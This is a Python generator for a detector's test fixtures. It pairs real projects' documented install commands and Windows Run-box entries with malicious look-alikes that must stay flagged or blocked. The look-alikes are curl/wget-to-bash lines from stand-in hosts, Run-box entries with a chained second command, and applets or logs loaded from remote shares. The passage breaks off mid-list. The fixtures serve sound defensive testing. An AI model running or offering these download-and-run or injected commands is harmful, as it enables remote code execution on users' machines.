"""Writes tests/data/cases/b10benign.jsonl: installers and Run-box entries that were blocked or
warned about although they are ordinary, each beside the look-alikes that must stay flagged or
blocked.

    python tests/data/cases/make_b10benign.py

Deterministic. Names are made up; lure hosts are reserved names (*.test, *.example, *.invalid).
No text is copied from a blind set, a lure collection or another detector's fixtures. Each line
is {id, text, expect, technique, platform, source, target}.

Principles:

- `own-page-camel-path`: a product's own install page whose address runs its words together in
  capitals (`/AMPInstall`, `/Docs/GettingStarted`, `/HowToInstallOnLinux`) is a page about
  software, read as a reader reads it. Its installer from a host the page's domain does not
  share (a vanity install host, get<name>.example) is what any such one-liner is without a tie:
  a warning, never a block (one whose registrable name joins the product's name with a
  download place's word, brindle-get, is blocked since b16lures). Look-alikes: the same
  download-and-run from pages whose capitals spell something else (a recipe, a match report, a
  booking) or a check page: still blocked.
- `run-box-applet-tab`: one of Windows' own Control Panel applets with its tab written apart
  from its name (`mmsys.cpl ,1`, `sysdm.cpl ,,3`, `main.cpl @1`), alone, after `control` or
  through `rundll32 shell32.dll,Control_RunDLL`: the same page as the joined form, which Windows
  finds among its own files. Look-alikes: an applet that is not Windows' own, something after
  the tab, a path or a share, another rundll32 entry point.
- `run-box-snapin-switch`: a console snap-in of Windows typed with its program's own switches
  (`eventvwr.msc /c:Application`, as `eventvwr /c:Application`), alone or after `mmc`, and with
  the console's switches. Look-alikes: the switch on another snap-in, a log file on a share, a
  snap-in that is not Windows' own, and the same entries written by a page (blocked) or a mail
  (still a warning): only a typed entry is the user's own.
- `third-party-known-installer`: a well-known tool's own documented install command (DuckDB,
  dprint, arkade, PDM, Pulumi, k0s, Trivy, ...: resources/trust.yaml, each entry with the page
  that documents it) quoted by someone else: a tutorial, a video, a question, a forum, another
  project's README or discussion, or nobody. It fetches the tool's own script from the tool's own
  host, so it is `info` wherever it was copied from. Look-alikes: the same hosts with a port of
  their own, a user part, inside another domain, spelt with a word joined on, another forge
  account, plain HTTP, a stranger's script chained after (flagged); the real script with a fake
  check's tail, a password prompt or keys sent away (blocked), and any of them in the Run box.
- `real-own-page-installer`: 170-odd real projects' install commands as their own README, docs or
  download page gives them (pipe-to-shell from their own or vanity host, forge releases and raw
  files, `go install`, `cargo install --git`, `pip install git+…`, `uv tool install`, taps and
  casks, winget, `iwr | iex`, `docker run`, Helm repositories, kubectl manifests): quiet.
- `admin-doc-command`, `admin-run-box-typed`: what vendors' and distributions' admin pages give
  for a terminal (repair tools, features, firewall rules, package keys and repositories, SSH keys)
  and the consoles, applets and tools admins type into the Run box: quiet.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b10benign.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
MAIL = "outlook"

# -- own install pages whose address runs its words together --------------------------------------

# (the product's own page, its installer from a vanity host the page's domain does not share)
CAMEL_OWN = [
    ("https://kestrelsoft.example/KestrelInstall", "bash <(wget -qO- getkestrel.example)"),
    ("https://kestrelsoft.example/KSInstall", "bash <(curl -fsSL https://getkestrel.example)"),
    ("https://www.harbourcode.example/Docs/GettingStarted", "curl -fsSL https://get.tarnwick.example | sh"),
    ("https://fenwickgames.example/GameServerSetup", "wget -qO- https://install.fenwick-srv.example/linux | bash"),
    ("https://brindlehq.example/HowToInstallOnLinux", "curl -sSL https://brindle-get.example/install.sh | sudo bash"),
    ("https://quillix.example/CLIReference", 'sh -c "$(curl -fsSL https://dl.qxtools.example/cli.sh)"'),
    ("https://loamworks.example/SelfHostedInstallation", "curl -fsSL https://getloam.example/i | bash -s -- --server"),
    ("https://www.pelletlabs.example/QuickStart", "curl -L https://pellet-releases.example/latest/install.sh | sh"),
    ("https://docs-portal.harrowfield.example/AgentDownloads", "bash <(curl -s https://harrowagent.example/get)"),
    ("https://marlow-ide.example/LinuxInstaller", "wget -O - https://getmarlow.example/setup | bash"),
    ("https://www.tarnwick.example/Wiki/InstallingTarnwick", "curl -fsSL https://gettarn.example | bash"),
    ("https://umbergrid.example/DockerSetup", "curl -fsSL https://umber-install.example/docker.sh | sh"),
]  # fmt: skip
CAMEL_STRANGERS = [
    "https://www.quillmere-bakery.example/ChickenCurryRecipe",
    "https://www.fenwick-fc.example/MatchReportSunday",
    "https://tarnwick-tv.example/SeasonFinaleRecap",
    "https://www.harbour-inn.example/HotelBookingConfirmation",
    "https://www.brindle-weddings.example/GalleryPhotos",
    "https://lakeside-news.example/LocalElectionResults",
    "https://www.marlow-garden.example/SpringPlantingTips",
    "https://www.pellet-travel.example/CheapFlightsToLisbon",
    "https://recaptcha-check.example/VerifyHuman",
    "https://www.kestrel-cafe.example/BrunchMenu",
]
STRANGER_SCRIPTS = [
    "curl -fsSL https://cdn.umbra-stage.test/a.sh | bash",
    "bash <(wget -qO- https://getkestrel.test)",
    "wget -qO- https://203.0.113.44/i | sh",
    'sh -c "$(curl -fsSL https://dl.loam-assets.invalid/run)"',
    "curl -sSL https://install.marlow.test | sudo bash",
]


# A vanity install host that joins the product's name with a download place's word in its
# registrable name (brindle-get, umber-install) has the shape of a fake download site's own
# (b16lures: PG-URL-DOWNLOAD-SHOP-HOST): blocked, as no real installer seen on the blind sets
# or the dev corpus is served that way; get<name>, get.<name> and <name>-releases stay warnings.
DOWNLOAD_SHOP_HOSTS = ("brindle-get.example", "umber-install.example")


def camel_pages(book: Book) -> None:
    for page, text in CAMEL_OWN:
        shop = any(host in text for host in DOWNLOAD_SHOP_HOSTS)
        expect = "malicious" if shop else "suspicious"
        book.add("own-page-camel-path", text, expect, "linux", TERMINAL, page)
    for i, page in enumerate(CAMEL_STRANGERS):
        for j in range(2):
            text = STRANGER_SCRIPTS[(i + j) % len(STRANGER_SCRIPTS)]
            book.add("camel-path-stranger", text, "malicious", "linux", TERMINAL, page)


# -- the Run box ----------------------------------------------------------------------------------

APPLET_TABS = [
    "mmsys.cpl ,1", "mmsys.cpl ,0", "mmsys.cpl ,,2", "sysdm.cpl ,3", "SYSDM.CPL ,,4",
    "main.cpl @1", "main.cpl ,2", "inetcpl.cpl ,4", "desk.cpl ,,5", "timedate.cpl ,1",
    "control mmsys.cpl ,,1", "control sysdm.cpl ,3", "control.exe inetcpl.cpl ,,6",
    "control main.cpl @1", "rundll32.exe shell32.dll,Control_RunDLL mmsys.cpl ,,1",
    "rundll32 shell32.dll,Control_RunDLL sysdm.cpl ,,2",
]  # fmt: skip
APPLET_LOOKALIKES = [
    "widget.cpl ,1", "mmsys.cpl ,1 calc", "mmsys.cpl ,1,2,3", "mmsys.cpl ,abc",
    r"control \\198.51.100.7\x\mmsys.cpl ,1", "control mmsys.cpl ,1 /name x",
    "rundll32.exe shell32.dll,Control_RunDLL widget.cpl ,,1",
    "rundll32.exe shell32.dll,ShellExec_RunDLL mmsys.cpl ,,1",
    "rundll32.exe url.dll,FileProtocolHandler mmsys.cpl ,1", "mmsys.cpl ,1 & calc",
]  # fmt: skip
SNAPIN_SWITCHES = [
    "eventvwr.msc /c:Application", "eventvwr.msc /c:System", "eventvwr.msc /c:Security",
    "eventvwr.msc /c:Setup /s", "mmc eventvwr.msc /c:Application",
    "mmc.exe eventvwr.msc /c:Microsoft-Windows-PowerShell/Operational",
    "eventvwr.msc /computer=ws-01 /c:System", r"eventvwr.msc /l:C:\Logs\app.evtx",
    r"eventvwr.msc /l:%USERPROFILE%\Desktop\saved.evtx", "EventVwr.msc /c:Application",
]  # fmt: skip
SNAPIN_LOOKALIKES = [
    "devmgmt.msc /c:Application", "services.msc /c:System", r"eventvwr.msc /l:\\198.51.100.7\x\a.evtx",
    "widget.msc /c:Application", "eventvwr.msc /c:Application /c:System",
    "eventvwr.msc /c:Application calc", r"eventvwr.msc /l:\\fs01@SSL\DavWWWRoot\a.evtx",
    "eventvwr.msc /c:https://cdn.umbra-stage.test/x", "mmc eventvwr.msc /c:System /x",
    r"mmc \\198.51.100.7\x\eventvwr.msc /c:System",
]  # fmt: skip
HELP_PAGE = "https://quick-fix.quillmere.example/sound-not-working"


def run_box(book: Book) -> None:
    for text in APPLET_TABS:
        book.add("run-box-applet-tab", text, "not_flagged", "windows", RUN)
    for text in APPLET_LOOKALIKES:
        book.add("applet-tab-lookalike", text, "flagged", "windows", RUN)
    for text in SNAPIN_SWITCHES:
        book.add("run-box-snapin-switch", text, "not_flagged", "windows", RUN)
    for text in SNAPIN_LOOKALIKES:
        book.add("snapin-switch-lookalike", text, "flagged", "windows", RUN)
    # typed entries only: the same switches written by a page or a mail are commands, except
    # a log picked by name (/c:, runbox.yaml `pages`: eventvwr.msc alone is a program name from
    # any page, and so is it opening its System log)
    for i, text in enumerate(SNAPIN_SWITCHES):
        page_only = "/c:" in text and not any(s in text for s in ("/computer", "/l:", " /s"))
        if page_only:
            book.add(
                "run-box-snapin-switch",
                text,
                "not_flagged",
                "windows",
                RUN,
                (MAIL, HELP_PAGE)[i % 2],
            )
        elif i % 2:
            book.add("snapin-switch-written", text, "malicious", "windows", RUN, HELP_PAGE)
        else:
            book.add("snapin-switch-written", text, "flagged", "windows", RUN, MAIL)


# -- real projects' own install commands, from their own pages ----------------------------------

# (the project's own page: README, docs or download page; its documented command). Forge
# releases, raw files of its own repository, vanity hosts, `go install`, `cargo install --git`,
# `pip install git+…`, `uv tool install`, taps, casks, winget, `iwr | iex`, `docker run`, Helm
# repositories and manifests: each as the project gives it. (Those the dev corpus already holds,
# Homebrew, rustup, uv and the like, are left out: test_labelled_cases.)
REAL_OWN_PAGES = [
    ("https://bun.sh/docs/installation", 'powershell -c "irm bun.sh/install.ps1 | iex"'),
    ("https://docs.deno.com/runtime/getting_started/installation/", "curl -fsSL https://deno.land/install.sh | sh"),
    ("https://github.com/ajeetdsouza/zoxide", "curl -sSfL https://raw.githubusercontent.com/ajeetdsouza/zoxide/main/install.sh | sh"),
    ("https://docs.atuin.sh/guide/installation/", "curl --proto '=https' --tlsv1.2 -LsSf https://setup.atuin.sh | sh"),
    ("https://pnpm.io/installation", "curl -fsSL https://get.pnpm.io/install.sh | sh -"),
    ("https://pnpm.io/installation", "Invoke-WebRequest https://get.pnpm.io/install.ps1 -UseBasicParsing | Invoke-Expression"),
    ("https://volta.sh/", "curl https://get.volta.sh | bash"),
    ("https://github.com/pyenv/pyenv", "curl https://pyenv.run | bash"),
    ("https://sdkman.io/install", 'curl -s "https://get.sdkman.io" | bash'),
    ("https://pixi.sh/latest/", "curl -fsSL https://pixi.sh/install.sh | bash"),
    ("https://mise.jdx.dev/getting-started.html", "curl https://mise.run | sh"),
    ("https://fly.io/docs/flyctl/install/", "curl -L https://fly.io/install.sh | sh"),
    ("https://supabase.com/docs/guides/local-development/cli/getting-started", "brew install supabase/tap/supabase"),
    ("https://helm.sh/docs/intro/install/", "curl https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash"),
    ("https://k9scli.io/topics/install/", "brew install derailed/k9s/k9s"),
    ("https://goreleaser.com/install/", "brew install goreleaser/tap/goreleaser"),
    ("https://golangci-lint.run/welcome/install/", "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.61.0"),
    ("https://github.com/golang/tools/tree/master/gopls", "go install golang.org/x/tools/gopls@latest"),
    ("https://github.com/junegunn/fzf", "git clone --depth 1 https://github.com/junegunn/fzf.git ~/.fzf && ~/.fzf/install"),
    ("https://github.com/jesseduffield/lazygit", "go install github.com/jesseduffield/lazygit@latest"),
    ("https://github.com/mvdan/gofumpt", "go install mvdan.cc/gofumpt@latest"),
    ("https://yazi-rs.github.io/docs/installation", "cargo install --locked --git https://github.com/sxyazi/yazi.git yazi-fm yazi-cli"),
    ("https://docs.astral.sh/uv/getting-started/installation/", "cargo install --git https://github.com/astral-sh/uv uv"),
    ("https://github.com/openai/whisper", "pip install git+https://github.com/openai/whisper.git"),
    ("https://github.com/huggingface/transformers", "pip install git+https://github.com/huggingface/transformers"),
    ("https://github.com/darrenburns/posting", "uv tool install --python 3.12 posting"),
    ("https://docs.astral.sh/ruff/installation/", "uv tool install ruff@latest"),
    ("https://wezterm.org/install/macos.html", "brew install --cask wezterm"),
    ("https://developer.hashicorp.com/terraform/install", "brew tap hashicorp/tap && brew install hashicorp/tap/terraform"),
    ("https://github.com/bitnami/charts", "helm repo add bitnami https://charts.bitnami.com/bitnami"),
    ("https://github.com/prometheus-community/helm-charts", "helm repo add prometheus-community https://prometheus-community.github.io/helm-charts"),
    ("https://cert-manager.io/docs/installation/helm/", "helm repo add jetstack https://charts.jetstack.io --force-update"),
    ("https://kubernetes.github.io/ingress-nginx/deploy/", "helm upgrade --install ingress-nginx ingress-nginx --repo https://kubernetes.github.io/ingress-nginx --namespace ingress-nginx --create-namespace"),
    ("https://cert-manager.io/docs/installation/kubectl/", "kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.16.1/cert-manager.yaml"),
    ("https://argo-cd.readthedocs.io/en/stable/getting_started/", "kubectl create namespace argocd && kubectl apply -n argocd -f https://raw.githubusercontent.com/argoproj/argo-cd/stable/manifests/install.yaml"),
    ("https://docs.portainer.io/start/install-ce/server/docker/linux", "docker run -d -p 8000:8000 -p 9443:9443 --name portainer --restart=always -v /var/run/docker.sock:/var/run/docker.sock -v portainer_data:/data portainer/portainer-ce:lts"),
    ("https://github.com/louislam/uptime-kuma", "docker run -d --restart=always -p 3001:3001 -v uptime-kuma:/app/data --name uptime-kuma louislam/uptime-kuma:1"),
    ("https://github.com/open-webui/open-webui", "docker run -d -p 3000:8080 --add-host=host.docker.internal:host-gateway -v open-webui:/app/backend/data --name open-webui --restart always ghcr.io/open-webui/open-webui:main"),
    ("https://github.com/CorentinTh/it-tools", "docker run -d --name it-tools --restart unless-stopped -p 8080:80 corentinth/it-tools:latest"),
    ("https://learn.netdata.cloud/docs/netdata-agent/installation/linux/", "wget -O /tmp/netdata-kickstart.sh https://get.netdata.cloud/kickstart.sh && sh /tmp/netdata-kickstart.sh"),
    ("https://github.com/IceWhaleTech/CasaOS", "curl -fsSL https://get.casaos.io | sudo bash"),
    ("https://coolify.io/docs/get-started/installation", "curl -fsSL https://cdn.coollabs.io/coolify/install.sh | bash"),
    ("https://dokku.com/docs/getting-started/installation/", "wget -NP . https://dokku.com/install/v0.35.12/bootstrap.sh; sudo DOKKU_TAG=v0.35.12 bash bootstrap.sh"),
    ("https://caprover.com/docs/get-started.html", "docker run -p 80:80 -p 443:443 -p 3000:3000 -e ACCEPTED_TERMS=true -v /var/run/docker.sock:/var/run/docker.sock -v /captain:/captain caprover/caprover"),
    ("https://spicetify.app/docs/advanced-usage/installation", "curl -fsSL https://raw.githubusercontent.com/spicetify/cli/main/install.sh | sh"),
    ("https://ohmyposh.dev/docs/installation/windows", "winget install JanDeDobbeleer.OhMyPosh -s winget"),
    ("https://ohmyposh.dev/docs/installation/linux", "curl -s https://ohmyposh.dev/install.sh | bash -s"),
    ("https://github.com/DeterminateSystems/nix-installer", "curl --proto '=https' --tlsv1.2 -sSf -L https://install.determinate.systems/nix | sh -s -- install"),
    ("https://nixos.org/download/", "sh <(curl -L https://nixos.org/nix/install) --daemon"),
    ("https://opentofu.org/docs/intro/install/standalone/", "curl --proto '=https' --tlsv1.2 -fsSL https://get.opentofu.org/install-opentofu.sh -o install-opentofu.sh"),
    ("https://zed.dev/docs/linux", "curl -f https://zed.dev/install.sh | sh"),
    ("https://docs.anthropic.com/en/docs/claude-code/setup", "curl -fsSL https://claude.ai/install.sh | bash"),
    ("https://jellyfin.org/docs/general/installation/linux", "curl https://repo.jellyfin.org/install-debuntu.sh | sudo bash"),
    ("https://webmin.com/download/", "curl -o webmin-setup-repo.sh https://raw.githubusercontent.com/webmin/webmin/master/webmin-setup-repo.sh && sudo sh webmin-setup-repo.sh"),
    ("https://github.com/nodesource/distributions", "curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -"),
    ("https://calibre-ebook.com/download_linux", "sudo -v && wget -nv -O- https://download.calibre-ebook.com/linux-installer.sh | sudo sh /dev/stdin"),
    ("https://github.com/conda-forge/miniforge", 'wget "https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-$(uname)-$(uname -m).sh" && bash Miniforge3-$(uname)-$(uname -m).sh'),
    ("https://julialang.org/downloads/", "curl -fsSL https://install.julialang.org | sh"),
    ("https://www.haskell.org/ghcup/", "curl --proto '=https' --tlsv1.2 -sSf https://get-ghcup.haskell.org | sh"),
    ("https://opam.ocaml.org/doc/Install.html", 'bash -c "sh <(curl -fsSL https://opam.ocaml.org/install.sh)"'),
    ("https://github.com/bazelbuild/bazelisk", "go install github.com/bazelbuild/bazelisk@latest"),
    ("https://docs.dagger.io/install", "curl -fsSL https://dl.dagger.io/dagger/install.sh | BIN_DIR=$HOME/.local/bin sh"),
    ("https://docs.tilt.dev/install.html", "curl -fsSL https://raw.githubusercontent.com/tilt-dev/tilt/master/scripts/install.sh | bash"),
    ("https://k3d.io/", "curl -s https://raw.githubusercontent.com/k3d-io/k3d/main/install.sh | bash"),
    ("https://kind.sigs.k8s.io/docs/user/quick-start/", "go install sigs.k8s.io/kind@v0.24.0"),
    ("https://www.pulumi.com/docs/iac/download-install/", "curl -fsSL https://get.pulumi.com | sh"),
    ("https://encore.dev/docs/install", "curl -L https://encore.dev/install.sh | bash"),
    ("https://docs.temporal.io/cli", "curl -sSf https://temporal.download/cli.sh | sh"),
    ("https://docs.railway.com/guides/cli", "bash <(curl -fsSL cli.new)"),
    ("https://wasmtime.dev/", "curl https://wasmtime.dev/install.sh -sSf | bash"),
    ("https://wasmer.io/", "curl https://get.wasmer.io -sSfL | sh"),
    ("https://docs.anza.xyz/cli/install", 'sh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"'),
    ("https://docs.sentry.io/cli/installation/", "curl -sL https://sentry.io/get-cli/ | sh"),
    ("https://docs.doppler.com/docs/install-cli", '(curl -Ls --tlsv1.2 --proto "=https" --retry 3 https://cli.doppler.com/install.sh || wget -t 3 -qO- https://cli.doppler.com/install.sh) | sudo sh'),
    ("https://github.com/charmbracelet/glow", "go install github.com/charmbracelet/glow@latest"),
    ("https://github.com/jesseduffield/lazydocker", "curl https://raw.githubusercontent.com/jesseduffield/lazydocker/master/scripts/install_update_linux.sh | bash"),
    ("https://github.com/ohmybash/oh-my-bash", 'bash -c "$(curl -fsSL https://raw.githubusercontent.com/ohmybash/oh-my-bash/master/tools/install.sh)"'),
    ("https://github.com/zdharma-continuum/zinit", 'bash -c "$(curl --fail --show-error --silent --location https://raw.githubusercontent.com/zdharma-continuum/zinit/HEAD/scripts/install.sh)"'),
    ("https://github.com/junegunn/vim-plug", "curl -fLo ~/.vim/autoload/plug.vim --create-dirs https://raw.githubusercontent.com/junegunn/vim-plug/master/plug.vim"),
    ("https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows", "winget install --id Microsoft.PowerShell --source winget"),
    ("https://learn.microsoft.com/en-us/dotnet/core/install/linux-scripted-manual", "wget https://dot.net/v1/dotnet-install.sh -O dotnet-install.sh"),
    ("https://learn.microsoft.com/en-us/cli/azure/install-azure-cli-linux", "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash"),
    ("https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html", 'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o "awscliv2.zip" && unzip awscliv2.zip && sudo ./aws/install'),
    ("https://devcenter.heroku.com/articles/heroku-cli", "curl https://cli-assets.heroku.com/install.sh | sh"),
    ("https://goteleport.com/docs/installation/", "curl https://cdn.teleport.dev/install.sh | bash -s 16.4.6"),
    ("https://aquasecurity.github.io/trivy/latest/getting-started/installation/", "curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin v0.56.2"),
    ("https://github.com/anchore/grype", "curl -sSfL https://raw.githubusercontent.com/anchore/grype/main/install.sh | sh -s -- -b /usr/local/bin"),
    ("https://github.com/anchore/syft", "curl -sSfL https://raw.githubusercontent.com/anchore/syft/main/install.sh | sh -s -- -b /usr/local/bin"),
    ("https://docs.sigstore.dev/cosign/system_config/installation/", "go install github.com/sigstore/cosign/v2/cmd/cosign@latest"),
    ("https://github.com/casey/just", "curl --proto '=https' --tlsv1.2 -sSf https://just.systems/install.sh | bash -s -- --to ~/bin"),
    ("https://github.com/cargo-bins/cargo-binstall", "curl -L --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/cargo-bins/cargo-binstall/main/install-from-binstall-release.sh | bash"),
    ("https://developer.fermyon.com/spin/v2/install", "curl -fsSL https://developer.fermyon.com/downloads/install.sh | bash"),
    ("https://community-scripts.github.io/ProxmoxVE/scripts?id=homeassistant", 'bash -c "$(curl -fsSL https://raw.githubusercontent.com/community-scripts/ProxmoxVE/main/ct/homeassistant.sh)"'),
    ("https://github.com/tldr-pages/tldr", "pipx install tldr"),
    ("https://github.com/aristocratos/btop", "sudo snap install btop"),
    ("https://github.com/sharkdp/bat", "cargo install --locked bat"),
    ("https://github.com/BurntSushi/ripgrep", "cargo install ripgrep"),
    ("https://github.com/eza-community/eza", "cargo install eza"),
    ("https://github.com/ducaale/xh", "curl -sfL https://raw.githubusercontent.com/ducaale/xh/master/install.sh | sh"),
    ("https://github.com/ducaale/xh", "iwr -useb https://raw.githubusercontent.com/ducaale/xh/master/install.ps1 | iex"),
    ("https://github.com/sharkdp/hyperfine", "cargo install --locked hyperfine"),
    ("https://github.com/extrawurst/gitui", "cargo install gitui --locked"),
    ("https://github.com/wagoodman/dive", "docker run -ti --rm -v /var/run/docker.sock:/var/run/docker.sock wagoodman/dive:latest"),
    ("https://github.com/containrrr/watchtower", "docker run --detach --name watchtower --volume /var/run/docker.sock:/var/run/docker.sock containrrr/watchtower"),
    ("https://github.com/filebrowser/filebrowser", "curl -fsSL https://raw.githubusercontent.com/filebrowser/get/master/get.sh | bash"),
    ("https://github.com/go-gitea/gitea", "docker run -d --name=gitea -p 3000:3000 -v /var/lib/gitea:/data gitea/gitea:latest"),
    ("https://github.com/asdf-vm/asdf", "go install github.com/asdf-vm/asdf/cmd/asdf@v0.16.0"),
    ("https://github.com/nektos/act", "curl --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/nektos/act/master/install.sh | sudo bash"),
    ("https://github.com/direnv/direnv", "curl -sfL https://direnv.net/install.sh | bash"),
    ("https://github.com/gitleaks/gitleaks", "brew install gitleaks"),
    ("https://github.com/git-ecosystem/git-credential-manager", "brew install --cask git-credential-manager"),
    ("https://github.com/cli/cli", "winget install --id GitHub.cli"),
    ("https://github.com/pypa/pipx", "python3 -m pip install --user pipx && python3 -m pipx ensurepath"),
    ("https://github.com/pypa/hatch", "pipx install hatch"),
    ("https://github.com/tox-dev/tox", "pipx install tox"),
    ("https://github.com/aws/aws-sam-cli", "pip install aws-sam-cli"),
    ("https://github.com/sherlock-project/sherlock", "pipx install sherlock-project"),
    ("https://github.com/yt-dlp/yt-dlp", "python3 -m pip install -U \"yt-dlp[default]\""),
    ("https://github.com/Aider-AI/aider", "python -m pip install aider-install && aider-install"),
    ("https://github.com/jdx/mise", "curl https://mise.run | sh"),
    ("https://github.com/denoland/deno", "curl -fsSL https://deno.land/install.sh | sh"),
    ("https://github.com/astral-sh/ruff", "curl -LsSf https://astral.sh/ruff/install.sh | sh"),
    ("https://github.com/coder/code-server", "curl -fsSL https://code-server.dev/install.sh | sh"),
    ("https://github.com/gohugoio/hugo", "go install github.com/gohugoio/hugo@latest"),
    ("https://github.com/caddyserver/xcaddy", "go install github.com/caddyserver/xcaddy/cmd/xcaddy@latest"),
    ("https://github.com/ko-build/ko", "go install github.com/google/ko@latest"),
    ("https://github.com/air-verse/air", "go install github.com/air-verse/air@latest"),
    ("https://github.com/air-verse/air", "curl -sSfL https://raw.githubusercontent.com/air-verse/air/master/install.sh | sh -s -- -b $(go env GOPATH)/bin"),
    ("https://github.com/pressly/goose", "go install github.com/pressly/goose/v3/cmd/goose@latest"),
    ("https://github.com/pressly/goose", "curl -fsSL https://raw.githubusercontent.com/pressly/goose/master/install.sh | sh"),
    ("https://github.com/golang-migrate/migrate", "go install -tags 'postgres' github.com/golang-migrate/migrate/v4/cmd/migrate@latest"),
    ("https://github.com/sqlc-dev/sqlc", "go install github.com/sqlc-dev/sqlc/cmd/sqlc@latest"),
    ("https://github.com/helix-editor/helix", "brew install helix"),
    ("https://github.com/neovim/neovim", "curl -LO https://github.com/neovim/neovim/releases/latest/download/nvim-linux-x86_64.tar.gz"),
    ("https://github.com/Wilfred/difftastic", "cargo install --locked difftastic"),
    ("https://github.com/bootandy/dust", "cargo install du-dust"),
    ("https://github.com/tealdeer-rs/tealdeer", "cargo install tealdeer"),
    ("https://github.com/rossmacarthur/sheldon", "curl --proto '=https' -fLsS https://rossmacarthur.github.io/install/crate.sh | bash -s -- --repo rossmacarthur/sheldon --to ~/.local/bin"),
    ("https://github.com/topgrade-rs/topgrade", "cargo install topgrade"),
    ("https://github.com/ellie/atuin", "bash <(curl https://raw.githubusercontent.com/atuinsh/atuin/main/install.sh)"),
    ("https://github.com/Orange-OpenSource/hurl", "cargo install --locked hurl"),
    ("https://github.com/svenstaro/miniserve", "cargo install --locked miniserve"),
    ("https://github.com/watchexec/watchexec", "cargo binstall watchexec-cli"),
    ("https://github.com/mozilla/sccache", "cargo install sccache --locked"),
    ("https://github.com/dandavison/delta", "cargo install git-delta"),
    ("https://github.com/microsoft/vcpkg", "git clone https://github.com/microsoft/vcpkg.git && cd vcpkg && ./bootstrap-vcpkg.sh"),
    ("https://github.com/emscripten-core/emsdk", "git clone https://github.com/emscripten-core/emsdk.git && cd emsdk && ./emsdk install latest && ./emsdk activate latest"),
    ("https://github.com/AUTOMATIC1111/stable-diffusion-webui", "wget -q https://raw.githubusercontent.com/AUTOMATIC1111/stable-diffusion-webui/master/webui.sh"),
    ("https://github.com/comfyanonymous/ComfyUI", "git clone https://github.com/comfyanonymous/ComfyUI.git && cd ComfyUI && pip install -r requirements.txt"),
    ("https://github.com/ggerganov/llama.cpp", "brew install llama.cpp"),
    ("https://github.com/mudler/LocalAI", "curl https://localai.io/install.sh | sh"),
    ("https://github.com/netbirdio/netbird", "curl -fsSL https://pkgs.netbird.io/install.sh | sh"),
    ("https://github.com/zerotier/ZeroTierOne", "curl -s https://install.zerotier.com | sudo bash"),
    ("https://github.com/AdguardTeam/AdGuardHome", "curl -s -S -L https://raw.githubusercontent.com/AdguardTeam/AdGuardHome/master/scripts/install.sh | sh -s -- -v"),
    ("https://github.com/crowdsecurity/crowdsec", "curl -s https://install.crowdsec.net | sudo sh"),
    ("https://github.com/wg-easy/wg-easy", "docker run -d --name=wg-easy -e WG_HOST=vpn.example.com -v ~/.wg-easy:/etc/wireguard -p 51820:51820/udp -p 51821:51821/tcp --cap-add=NET_ADMIN --cap-add=SYS_MODULE --restart unless-stopped ghcr.io/wg-easy/wg-easy"),
    ("https://github.com/angristan/wireguard-install", "curl -O https://raw.githubusercontent.com/angristan/wireguard-install/master/wireguard-install.sh && chmod +x wireguard-install.sh && ./wireguard-install.sh"),
    ("https://github.com/angristan/openvpn-install", "curl -O https://raw.githubusercontent.com/angristan/openvpn-install/master/openvpn-install.sh && chmod +x openvpn-install.sh && ./openvpn-install.sh"),
    ("https://github.com/hwdsl2/setup-ipsec-vpn", "wget https://get.vpnsetup.net -O vpn.sh && sudo sh vpn.sh"),
    ("https://github.com/nextcloud/all-in-one", "sudo docker run --init --sig-proxy=false --name nextcloud-aio-mastercontainer --restart always --publish 80:80 --publish 8080:8080 --publish 8443:8443 --volume nextcloud_aio_mastercontainer:/mnt/docker-aio-config --volume /var/run/docker.sock:/var/run/docker.sock:ro nextcloud/all-in-one:latest"),
    ("https://github.com/immich-app/immich", "curl -o- https://raw.githubusercontent.com/immich-app/immich/main/install.sh | bash"),
    ("https://github.com/photoprism/photoprism", "curl -sSf https://dl.photoprism.app/podman/install.sh | bash"),
    ("https://github.com/microsoft/PowerToys", "winget install Microsoft.PowerToys --source winget"),
    ("https://github.com/microsoft/terminal", "winget install --id Microsoft.WindowsTerminal -e"),
    ("https://github.com/PowerShell/PowerShell", "iex \"& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI\""),
    ("https://github.com/Raphire/Win11Debloat", "& ([scriptblock]::Create((irm \"https://debloat.raphi.re/\")))"),
    ("https://github.com/jdhitsolutions/PSScriptTools", "Install-Module PSScriptTools"),
    ("https://github.com/coreybutler/nvm-windows", "winget install CoreyButler.NVMforWindows"),
    ("https://github.com/volta-cli/volta", "winget install Volta.Volta"),
    ("https://github.com/ScoopInstaller/Install", "iex \"& {$(irm get.scoop.sh)} -RunAsAdmin\""),
    ("https://github.com/chocolatey/choco", "choco install git -y"),
    ("https://github.com/ogham/exa", "cargo install exa"),
]  # fmt: skip


def real_own_pages(book: Book) -> None:
    for page, text in REAL_OWN_PAGES:
        book.add("real-own-page-installer", text, "not_flagged", "any", TERMINAL, page)


# -- administrators' documentation: commands for a terminal, entries for the Run box -------------

# (the vendor's or distribution's own page, the command it gives)
ADMIN_DOCS = [
    ('https://learn.microsoft.com/en-us/windows/wsl/install-manual', 'dism.exe /online /enable-feature /featurename:Microsoft-Windows-Subsystem-Linux /all /norestart'),
    ('https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_execution_policies', 'Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser'),
    ('https://learn.microsoft.com/en-us/windows-server/administration/openssh/openssh_install_firstuse', 'Add-WindowsCapability -Online -Name OpenSSH.Server~~~~0.0.1.0'),
